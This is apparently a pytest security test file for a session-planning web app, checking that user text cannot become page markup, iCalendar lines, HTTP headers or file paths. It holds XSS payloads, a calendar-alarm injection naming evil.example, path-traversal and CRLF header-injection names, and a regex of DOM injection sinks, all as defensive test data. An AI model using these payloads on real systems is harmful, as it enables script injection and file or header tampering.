"""What somebody may put into a text so that it becomes something else: a script, a line of a calendar, a
header, a path. Each text that a person can enter is given, and must come out as text or not at all.

The other attacks have their tests beside what they attack; docs/security.md has the whole list.
"""

import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from icalendar import Calendar

from chatd.app import WEB
from rooms.catalog import RoomSpec
from rooms.session import Item
from tests.chatd.sessions.test_series_api import Desk, desk_in
from tests.chatd.test_app import Browser
from tests.rooms.planning import planned

SCRIPT = "</title><script>alert(1)</script><img src=x onerror=alert(1)>"
BREAKOUT = "\" onmouseover='alert(1)' x=`"
LINE = "Tea\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:https://evil.example/x\nEND:VALARM"
WAYS_OUT = re.compile(
    r"\.(?:inner|outer)HTML\s*(?:\+)?=(?!=)|insertAdjacentHTML|document\.write|\beval\(|new Function\(|"
    r"srcdoc|createContextualFragment|DOMParser|setAttribute\(\s*[\"']on|javascript:"
)
"""How a text becomes markup or code in a page (HTML, "dynamic markup insertion"; Trusted Types, "sinks")."""


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
    async with desk_in(tmp_path) as desk:
        yield desk


@pytest.fixture
def client(desk: Desk) -> Browser:
    return desk.browser


@pytest.mark.parametrize("text", [SCRIPT, BREAKOUT])
async def test_no_text_becomes_markup_in_a_page(client: Browser, text: str) -> None:
    """Titles, what a session is for, its agenda and resources, in every page that the server writes."""
    series = planned(
        title=text,
        about=text,
        agenda=(Item(text, 5, "opening"), Item(text, 50, prompt=text)),
        resources=((text, "https://example.org/?<script>"),),
        support=((text, text, "2026-01-01"),),
    )
    await client.node.series.add(series)
    await client.node.catalog.add(RoomSpec(name="tea", title=text, kind="session", capacity=8, open=True))
    for path in ("/", "/room/tea", "/room/tea/poster", "/embed/tea", "/facilitate", "/room/nothing"):
        page = (await client.get(path)).text
        assert "alert(1)</script>" not in page, path
        assert "<img src=x" not in page, path
        assert "onmouseover='" not in page, path
    for path in ("/api/rooms", "/api/rooms/tea", "/api/sessions"):
        answer = await client.get(path)
        # Its own words, and no browser takes it for a page.
        assert (answer.headers["content-type"], answer.headers["x-content-type-options"]) == (
            "application/json",
            "nosniff",
        )


async def test_no_text_becomes_a_line_of_a_calendar(client: Browser) -> None:
    """RFC 5545 section 3.3.11: line breaks in a text are written as two characters."""
    await client.node.series.add(
        planned(title="Tea;X=1,\\n", about=LINE, agenda=(Item("Talk", 60, prompt="A\u2028BEGIN:VALARM"),))
    )
    answer = await client.get("/calendar/tea.ics")
    assert answer.status_code == 200
    lines = answer.content.replace(b"\r\n ", b"").split(b"\r\n")
    assert not [line for line in lines if line.startswith((b"BEGIN:VALARM", b"ATTACH", b"ACTION"))]
    calendar = Calendar.from_ical(answer.content)
    assert not calendar.walk("VALARM")
    assert {str(each["SUMMARY"]) for each in calendar.walk("VEVENT")} == {"Tea;X=1,\\n"}


def test_no_module_of_the_pages_makes_markup_of_text() -> None:
    """`textContent` only. Trusted Types would stop the rest in a browser; nothing here asks them to."""
    found = [
        f"{path.relative_to(WEB)}: {match[0]}"
        for path in sorted(WEB.rglob("*.js"))
        for match in WAYS_OUT.finditer(path.read_text("utf-8"))
    ]
    assert not found, found


NAMES = (
    "../secret",
    "..%2fsecret",
    "tea/../../secret",
    "tea%00.ics",
    "tea.ics%0d%0aSet-Cookie:x=1",
    "%2e%2e",
)
PLACES = ("/calendar/{}.ics", "/room/{}/poster", "/embed/{}", "/api/series/{}", "/static/{}")


async def test_no_name_leads_elsewhere_or_into_a_header(client: Browser) -> None:
    for path in (place.format(name) for place in PLACES for name in NAMES):
        answer = await client.get(path)
        assert answer.status_code in {401, 404}, path
        assert "set-cookie" not in answer.headers, path
